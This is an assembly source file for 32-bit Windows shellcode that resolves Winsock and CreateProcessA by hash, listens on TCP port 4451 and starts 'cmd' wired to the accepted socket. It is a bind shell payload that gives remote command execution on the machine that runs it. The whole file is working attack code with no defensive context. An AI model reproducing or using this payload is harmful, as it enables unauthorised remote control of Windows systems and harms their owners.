; Windows, 32 bit: a command line on TCP port 4451.
bits 32
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH startup, 'WSAStartup'
HASH socket_of, 'WSASocketA'
HASH bind_to, 'bind'
HASH listen_to, 'listen'
HASH accept_one, 'accept'
HASH create, 'CreateProcessA'
        RESOLVER
        LOAD library
        mov esi, eax
        sub esp, 0x190
        push esp
        push dword 0x202
        CALL_API esi, startup
        xor ecx, ecx
        push ecx
        push ecx
        push ecx
        push ecx
        push byte 1
        push byte 2
        CALL_API esi, socket_of
        mov edi, eax
        push byte 0
        push dword 0x63110002
        mov ecx, esp
        push byte 16
        push ecx
        push edi
        CALL_API esi, bind_to
        push byte 1
        push edi
        CALL_API esi, listen_to
        push byte 0
        push byte 0
        push edi
        CALL_API esi, accept_one
        mov edi, eax
        xor eax, eax
        push edi
        push edi
        push edi
        push eax
        push eax
        push dword 0x101
        push byte 10
        pop ecx
zero:   push eax
        loop zero
        push byte 68
        mov ecx, esp
        sub esp, byte 16
        push esp
        push ecx
        push eax
        push eax
        push eax
        push byte 1
        push eax
        push eax
        lea edx, AT(command)
        push edx
        push eax
        CALL_API ebx, create
        jmp short $
library: db 'ws2_32', 0
command: db 'cmd', 0
